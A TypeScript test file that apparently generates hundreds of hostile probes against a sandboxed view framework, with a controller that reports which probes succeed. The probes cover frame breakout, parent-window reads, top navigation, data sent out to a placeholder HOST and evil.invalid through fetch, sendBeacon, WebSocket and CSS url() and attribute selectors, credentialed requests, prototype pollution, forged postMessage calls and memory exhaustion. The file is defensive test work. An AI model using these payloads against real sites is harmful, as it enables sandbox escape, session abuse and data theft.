import { contract } from '@telemachos/contract'
import { isCallableByViews } from '@telemachos/contract/views/callable'

/**
 * What authors of views try, by kind: each is the body of an async function that answers `true` once it has got
 * what it wants. `HOST` is a machine that is not ours; what throws, hangs or answers anything else has got nothing.
 */
export interface HostileKind {
  readonly kind: string
  readonly cases: readonly string[]
}

const each = <One>(list: readonly One[], write: (one: One) => string | readonly string[]) =>
  list.flatMap(write)

const ELEMENTS = [
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'link',
  'meta',
  'base',
  'script',
  'portal',
  'fencedframe',
]

/** Ways by which an element comes to be in a document. */
const WAYS = [
  `document.body.append(document.createElement(NAME))`,
  `document.body.append(document.createElement(NAME.toUpperCase()))`,
  `document.body.append(document.createElement({ n: 0, toString() { return this.n++ ? NAME : 'p' } }))`,
  `document.body.append(document.createElementNS('http://www.w3.org/1999/xhtml', NAME))`,
  `document.body.append(document.createElementNS('http://www.w3.org/1999/xhtml', 'x:' + NAME))`,
  `document.body.innerHTML += '<' + NAME + ' src=http://' + HOST + ' href=http://' + HOST + '>'`,
  `document.body.insertAdjacentHTML('beforeend', '<' + NAME + '>')`,
  `document.body.insertAdjacentElement('beforeend', new DOMParser().parseFromString('<p><' + NAME + '>', 'text/html').querySelector(NAME))`,
  `document.body.append(document.createRange().createContextualFragment('<' + NAME + '>'))`,
  `document.body.setHTMLUnsafe('<' + NAME + '>')`,
  `const t = document.createElement('template'); t.innerHTML = '<' + NAME + '>'; document.body.append(t.content)`,
  `document.body.append(document.importNode(Document.parseHTMLUnsafe('<body><' + NAME + '>').querySelector(NAME), true))`,
  `document.body.replaceChildren(document.adoptNode(document.implementation.createHTMLDocument('').createElement(NAME)))`,
  `document.execCommand('insertHTML', false, '<' + NAME + '>')`,
  `document.write('<' + NAME + '>')`,
  `const s = document.createElement('div').attachShadow({ mode: 'open' }); s.innerHTML = '<' + NAME + '>'; document.body.append(s.host); if (s.querySelector(NAME)) return true`,
  `const d = document.implementation.createDocument('http://www.w3.org/1999/xhtml', NAME); document.documentElement.append(d.documentElement)`,
  `Vue.render(Vue.h(NAME), document.body.appendChild(document.createElement('div')))`,
  `const p = document.createElement('p'); p.outerHTML = '<' + NAME + '>'; document.body.append(p)`,
]

const WINDOWS = [
  'parent',
  'top',
  'opener',
  'frameElement',
  'parent.frames[0]',
  'self.parent.parent',
  'document.defaultView.top',
  'window.top.parent',
  'frames.parent',
  'globalThis.parent',
]

/** What of a window tells anything; a view's own window is no find. */
const READS = [
  'document.body',
  'document.cookie',
  'localStorage.length',
  'sessionStorage.length',
  'location.href',
  'fetch',
  'indexedDB',
  'caches',
  'navigator.userAgent',
  'history.length',
  'name',
  'eval',
  'Function',
  'performance',
  'document.title',
]

const LEAVING = [
  `top.location = 'about:blank'`,
  `top.location.href = 'http://' + HOST`,
  `top.location.replace('http://' + HOST)`,
  `top.location.assign('/signin')`,
  `parent.location = 'javascript:1'`,
  `parent.location.hash = 'x'`,
  `top.history.back()`,
  `top.close()`,
  `top.stop()`,
  `parent.focus(); parent.print()`,
  ...each(['_top', '_parent', '_blank', 'x'], (target) => [
    `return Boolean(window.open('http://' + HOST, '${target}'))`,
    `const a = Object.assign(document.createElement('a'), { href: 'http://' + HOST, target: '${target}' }); a.addEventListener('click', (event) => event.stopPropagation()); document.body.append(a); a.click(); a.remove()`,
    `const f = Object.assign(document.createElement('form'), { action: 'http://' + HOST, target: '${target}', method: 'post' }); f.innerHTML = '<input name=a value=b>'; document.body.append(f); f.submit(); f.remove()`,
    `const f = Object.assign(document.createElement('form'), { action: '/Account/Logout', target: '${target}', method: 'get' }); document.body.append(f); f.requestSubmit(); f.remove()`,
  ]),
]

/** Properties that load an address. */
const PROPERTIES = [
  'background',
  'background-image',
  'list-style-image',
  'border-image-source',
  'cursor',
  'content',
  'mask-image',
  '-webkit-mask-image',
  'clip-path',
  'filter',
  'shape-outside',
  'offset-path',
  'marker-start',
  'fill',
  'backdrop-filter',
]
const CSS_URL = (property: string, at: number) =>
  property === 'cursor' ? `url(http://HOST/${at}),auto` : `url(http://HOST/${at})`

const STYLING = [
  ...each([...PROPERTIES.entries()], ([at, property]) => {
    const value = `'${CSS_URL(property, at)}'.replace('HOST', HOST)`
    return [
      `document.body.append(Object.assign(document.createElement('i'), { textContent: 'x' })); document.body.lastChild.setAttribute('style', '${property}:' + ${value})`,
      `document.body.style.setProperty('${property}', ${value})`,
      `document.body.append(Object.assign(document.createElement('style'), { textContent: 'p, body { ${property}:' + ${value} + ' }' }))`,
      `const s = new CSSStyleSheet(); s.replaceSync('body::after { ${property}:' + ${value} + ' }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]`,
    ]
  }),
  `document.body.append(Object.assign(document.createElement('style'), { textContent: '@import url(http://' + HOST + '/import);' }))`,
  `document.body.append(Object.assign(document.createElement('style'), { textContent: '@font-face { font-family: x; src: url(http://' + HOST + '/f) } body { font-family: x }' }))`,
  `document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { background: image-set("http://' + HOST + '/s" 1x) }' }))`,
  `document.body.append(Object.assign(document.createElement('style'), { textContent: 'input[value^="a"] { background: url(http://' + HOST + '/a) }' })); document.body.append(Object.assign(document.createElement('input'), { value: 'abc' }))`,
  `await new FontFace('x', 'url(http://' + HOST + '/font)').load(); return true`,
]

const LOADING = [
  ...each(['img', 'audio', 'video', 'source', 'track', 'input'], (tag) => [
    `const e = document.createElement('${tag}'); e.type = 'image'; e.src = 'http://' + HOST + '/${tag}'; document.body.append(e)`,
    `const e = document.createElement('${tag}'); e.setAttribute('srcset', 'http://' + HOST + '/${tag}set 1x'); e.setAttribute('poster', 'http://' + HOST + '/poster'); document.body.append(e)`,
  ]),
  ...each(['image', 'use', 'feImage', 'a', 'mpath', 'textPath', 'pattern'], (tag) => [
    `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const e = s.appendChild(document.createElementNS('http://www.w3.org/2000/svg', '${tag}')); e.setAttribute('href', 'http://' + HOST + '/${tag}#a'); document.body.append(s)`,
    `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const e = s.appendChild(document.createElementNS('http://www.w3.org/2000/svg', '${tag}')); e.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', 'http://' + HOST + '/${tag}x#a'); document.body.append(s)`,
  ]),
  `document.body.setAttribute('background', 'http://' + HOST + '/body')`,
  `new Image().src = 'http://' + HOST + '/image'`,
  `new Audio('http://' + HOST + '/audio').play()`,
  ...each(
    [
      `fetch('http://' + HOST)`,
      `fetch('/Account/Identity', { credentials: 'include' })`,
      `fetch('http://' + HOST, { mode: 'no-cors', keepalive: true })`,
      `fetchLater('http://' + HOST)`,
      `import('http://' + HOST + '/m.js')`,
      `import('data:text/javascript,export default 1')`,
      `import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })))`,
      `navigator.serviceWorker.register('/sw.js')`,
      `CSS.paintWorklet.addModule('data:text/javascript,1')`,
      `new AudioContext().audioWorklet.addModule('data:text/javascript,1')`,
      `new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open('GET', 'http://' + HOST); x.send() })`,
      `new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open('POST', '/Account/Identity'); x.withCredentials = true; x.send() })`,
    ],
    (ask) => `await ${ask}; return true`,
  ),
  ...each(
    [
      `new WebSocket('ws://' + HOST)`,
      `new EventSource('http://' + HOST)`,
      `new WebTransport('https://' + HOST)`,
      `new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + HOST }] })`,
      `new webkitRTCPeerConnection({ iceServers: [{ urls: 'stun:' + HOST }] })`,
      `new Worker(URL.createObjectURL(new Blob(['1'])))`,
      `new Worker('data:text/javascript,1')`,
      `new SharedWorker('data:text/javascript,1')`,
      `new BroadcastChannel('x')`,
      `new WebSocketStream('ws://' + HOST)`,
      `new PaymentRequest([{ supportedMethods: 'https://' + HOST }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } })`,
    ],
    (make) => `return Boolean(${make})`,
  ),
  `navigator.sendBeacon('http://' + HOST, 'x')`,
  `navigator.registerProtocolHandler('web+x', 'http://' + HOST + '/%s')`,
]

/** What a browser keeps or gives with a permission. */
const KEEPING = each(
  [
    `document.cookie !== ''`,
    `(document.cookie = 'a=b', document.cookie !== '')`,
    `cookieStore.getAll().then((all) => all.length > 0)`,
    `localStorage.length >= 0`,
    `sessionStorage.length >= 0`,
    `new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = () => yes(true); r.onerror = no })`,
    `caches.open('x').then(Boolean)`,
    `navigator.storage.getDirectory().then(Boolean)`,
    `navigator.clipboard.readText().then(() => true)`,
    `navigator.clipboard.writeText('x').then(() => true)`,
    `new Promise((yes, no) => navigator.geolocation.getCurrentPosition(() => yes(true), no))`,
    `navigator.mediaDevices.getUserMedia({ audio: true }).then(Boolean)`,
    `navigator.mediaDevices.getDisplayMedia().then(Boolean)`,
    `Notification.requestPermission().then((is) => is === 'granted')`,
    `document.documentElement.requestFullscreen().then(() => true)`,
    `document.body.requestPointerLock().then(() => document.pointerLockElement !== null)`,
    `navigator.wakeLock.request().then(Boolean)`,
    `navigator.usb.requestDevice({ filters: [] }).then(Boolean)`,
    `navigator.serial.requestPort().then(Boolean)`,
    `navigator.hid.requestDevice({ filters: [] }).then(Boolean)`,
    `navigator.credentials.get({ password: true }).then(Boolean)`,
    `navigator.share({ text: 'x' }).then(() => true)`,
    `showOpenFilePicker().then(Boolean)`,
    `showSaveFilePicker().then(Boolean)`,
    `showDirectoryPicker().then(Boolean)`,
    `queryLocalFonts().then(Boolean)`,
    `document.requestStorageAccess().then(() => document.cookie !== '')`,
    `navigator.locks.request('x', () => true)`,
    `alert(1) !== undefined`,
    `confirm('x') !== undefined`,
    `prompt('x') !== undefined`,
    `print() !== undefined`,
    `origin !== 'null'`,
    `isSecureContext && document.domain !== ''`,
  ],
  (ask) => `return (await (${ask})) === true`,
)

/** Names that no view may call: those of the contract that are for people alone, and what is none. */
const UNCALLABLE = Object.entries(contract).flatMap(([domain, { calls }]) =>
  Object.entries(calls)
    .filter(([verb, call]) => !isCallableByViews(`${domain}.${verb}`, call))
    .map(([verb]) => `${domain}.${verb}`),
)
const FEW = 110
const step = Math.max(1, Math.floor(UNCALLABLE.length / FEW))

const ASKING = [
  ...each(
    [
      ...UNCALLABLE.filter((_name, at) => at % step === 0),
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      'valueOf',
      '',
      '.',
      'a.b',
      'actions.listMenteeActions ',
      'ACTIONS.listMenteeActions',
      '../identity',
      'x'.repeat(5_000),
    ],
    (name) => `await api.call(${JSON.stringify(name)}, {}); return true`,
  ),
  ...each(
    [
      `JSON.parse('{"__proto__": {"polluted": 1}}')`,
      `JSON.parse('{"constructor": {"prototype": {"polluted": 1}}}')`,
      `{ toJSON: () => ({ ProjectId: 2 }) }`,
      `new Proxy({}, { get: () => 1, ownKeys: () => ['ProjectId'], getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true, value: 2 }) })`,
      `{ get ProjectId() { return 2 }, MenteeId: 1 }`,
      `{ ProjectId: view.who.ProjectId, MenteeId: view.who.Id + 1 }`,
      `{ ProjectId: String(view.who.ProjectId), MenteeId: view.who.Id }`,
      `{ ProjectId: view.who.ProjectId + 1, MenteeId: view.who.Id }`,
      `{ ProjectId: [view.who.ProjectId], MenteeId: view.who.Id }`,
      `{ ProjectId: view.who.ProjectId, MenteeId: [view.who.Id, view.who.Id + 1] }`,
      `{ ProjectId: view.who.ProjectId, MenteeId: view.who.Id, Extra: 1 }`,
      `{ ProjectId: view.who.ProjectId, MenteeId: -1 }`,
      `{ ProjectId: view.who.ProjectId, MenteeId: 1e99 }`,
      `{ ProjectId: view.who.ProjectId, MenteeId: NaN }`,
      `[]`,
      `null`,
      `JSON.parse('['.repeat(3000) + ']'.repeat(3000))`,
      `(() => { const a = {}; a.a = a; return a })()`,
      `{ big: 1n }`,
    ],
    (input) => `await api.call('actions.listMenteeActions', ${input}); return true`,
  ),
  ...each(
    [
      `api.navigate('//evil.invalid')`,
      `api.navigate('https://evil.invalid')`,
      `api.navigate('javascript:alert(1)')`,
      `api.navigate('../../signin')`,
      `api.service('../identity')`,
      `api.service('a/../b')`,
    ],
    (ask) => `await ${ask}; return true`,
  ),
  `view.who.Id += 1; await api.call('actions.listMenteeActions', { ProjectId: view.who.ProjectId, MenteeId: view.who.Id }); return true`,
]

/** Messages that pretend to be another's; fewer than are a flood. */
const FORGING = [
  `const c = new MessageChannel(); const heard = new Promise((yes) => { c.port1.onmessage = () => yes(true) }); window.postMessage('telemachos:view', '*', [c.port2]); return heard`,
  `const c = new MessageChannel(); const heard = new Promise((yes) => { c.port1.onmessage = () => yes(true) }); parent.postMessage('telemachos:view', '*', [c.port2]); return heard`,
  ...each(
    [
      `'telemachos:view'`,
      `{ type: 'start', start: {} }`,
      `{ id: 1, method: 'call', input: { name: 'identity.logout', input: {} } }`,
      `JSON.stringify({ id: 1, method: 'navigate', input: { path: 'userinfo' } })`,
      `JSON.parse('{"__proto__": {"polluted": 1}}')`,
      `new Map([['__proto__', 1]])`,
      `new ArrayBuffer(8)`,
      `new Proxy({}, {})`,
      `() => 1`,
      `new Error('x')`,
    ],
    (message) => `parent.postMessage(${message}, '*')`,
  ),
  ...each(
    [
      `Object.prototype.polluted = 1`,
      `Object.prototype.then = () => {}; delete Object.prototype.then`,
      `Array.prototype.toJSON = () => 'x'; delete Array.prototype.toJSON`,
      `Object.prototype.ProjectId = 2; delete Object.prototype.ProjectId`,
      `structuredClone = () => 1`,
    ],
    (pollute) => `${pollute}; return parent.polluted === 1`,
  ),
  `delete Object.prototype.polluted`,
]

/** What is too much at once, and is refused as such. */
const TAKING_ALL = each(
  [
    `new ArrayBuffer(64e9)`,
    `'x'.repeat(2 ** 30)`,
    `new Array(2 ** 32)`,
    `new Uint8Array(32e9)`,
    `new WebAssembly.Memory({ initial: 65536, maximum: 65536, shared: true })`,
    `(function f() { return f() })()`,
    `JSON.parse('['.repeat(5e6))`,
    `new RegExp('('.repeat(1e5))`,
  ],
  (make) => `return Boolean(${make}) && false`,
)

/** Every kind, with its cases. */
export const HOSTILE_KINDS: readonly HostileKind[] = [
  {
    kind: 'elements',
    cases: each(ELEMENTS, (name) =>
      each(WAYS, (way) => {
        const act = way.replaceAll('NAME', JSON.stringify(name))
        return `const before = document.querySelectorAll('${name}').length; ${act}; return document.querySelectorAll('${name}').length > before`
      }),
    ),
  },
  {
    kind: 'windows',
    cases: each(WINDOWS, (name) =>
      each(READS, (read) => `const w = ${name}; return w !== window && w.${read} !== undefined`),
    ),
  },
  { kind: 'leaving', cases: LEAVING },
  { kind: 'styles', cases: STYLING },
  { kind: 'loading', cases: LOADING },
  { kind: 'keeping', cases: KEEPING },
  { kind: 'asking', cases: ASKING },
  { kind: 'forging', cases: FORGING },
  { kind: 'all at once', cases: TAKING_ALL },
]

/**
 * A controller that tries all of them, twenty at a time, and shows which have got what they want. What draws is
 * kept apart from what is tried: an author may take the whole document away.
 */
export const triesAll = (
  host: string,
  cases: readonly string[],
): string => `async ({ view, api }) => {
  const HOST = '${host}'
  const AsyncFunction = (async () => {}).constructor
  const cases = ${JSON.stringify(cases)}
  const got = []
  const later = (ms) => new Promise((done) => setTimeout(done, ms))
  for (let from = 0; from < cases.length; from += 20) {
    await Promise.all(cases.slice(from, from + 20).map(async (code, at) => {
      try {
        const run = new AsyncFunction('HOST', 'view', 'api', code)
        if ((await Promise.race([run(HOST, view, api), later(400)])) === true) got.push(from + at)
      } catch {}
    }))
    await later(120)
  }
  const out = document.createElement('p')
  out.id = 'out'
  out.textContent = 'tried ' + cases.length + ', got ' + JSON.stringify(got)
  document.body.append(out)
  return {}
}`
